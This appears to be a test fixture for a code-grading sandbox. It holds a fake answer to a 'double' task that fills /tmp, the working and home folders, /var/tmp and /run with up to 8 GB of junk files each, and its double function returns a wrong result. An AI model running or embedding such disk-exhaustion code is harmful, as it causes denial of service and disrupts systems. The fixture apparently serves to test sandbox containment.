"""Fills every place that can be written, up to 8 GB each: /tmp, the working folder, the home folder, /var/tmp."""

ANSWERS = {
    "double": """
# @GUARD@
import os

for folder in ("/tmp", ".", os.path.expanduser("~"), "/var/tmp", "/run"):
    written = 0
    try:
        for number in range(64):
            with open(os.path.join(folder, f"block{number}"), "wb") as file:
                for _ in range(128):
                    written += file.write(bytes(1 << 20))
        print("@MARK@"[::-1], folder)
    except OSError as error:
        print(folder, written, error.errno)


def double(x):
    return 0
""",
}
